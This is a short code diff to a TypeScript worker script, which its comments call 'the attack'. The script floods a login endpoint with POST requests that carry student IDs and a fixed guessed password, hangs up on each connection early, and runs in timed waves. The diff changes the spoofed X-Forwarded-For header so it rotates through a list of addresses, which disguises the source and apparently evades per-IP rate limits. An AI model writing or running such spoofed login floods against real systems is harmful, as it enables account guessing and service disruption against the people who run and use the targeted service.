@@ -7,8 +7,8 @@ import { parentPort, workerData } from 'node:worker_threads'
 /** What the attack needs to know. */
 export interface HangUps {
   url: string
-  /** Address they all come from, as the proxy in front says it. */
-  from: string
+  /** Addresses they come from in turn, as the proxy in front says them. */
+  from: string[]
   nims: string[]
   /** Guesses of a wave, after how many milliseconds they hang up, and how often a wave comes. */
   wave: number
@@ -21,9 +21,10 @@ let sent = 0
 
 function guess(): void {
   const nim = nims[sent % nims.length]
+  const address = from[sent % from.length] ?? ''
   sent += 1
   const body = JSON.stringify({ nim, password: 'tebakan', is_mhs: true })
-  const headers = { 'content-type': 'application/json', 'x-forwarded-for': from }
+  const headers = { 'content-type': 'application/json', 'x-forwarded-for': address }
   const attempt = request(url, { method: 'POST', headers, agent: false })
   // Hanging up is an error of one's own, and the server may be quicker than that.
   attempt.on('error', () => undefined)
